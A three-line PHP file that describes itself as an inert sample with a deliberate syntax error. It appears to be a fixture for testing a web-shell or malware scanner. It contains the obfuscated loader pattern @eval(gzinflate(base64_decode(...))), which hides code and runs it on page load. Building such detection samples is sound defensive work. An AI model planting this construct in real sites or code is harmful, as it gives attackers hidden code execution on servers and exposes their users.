<?php
shodo inert sample: deliberate syntax error, this file never runs
 @eval(gzinflate(base64_decode('SyzJzEvPz0lVKC4pysxL1ygpSk0uLUgtslIoKs3LTNXIS8xJzcnPS9WIT9RNydF1AAA='))); ?>
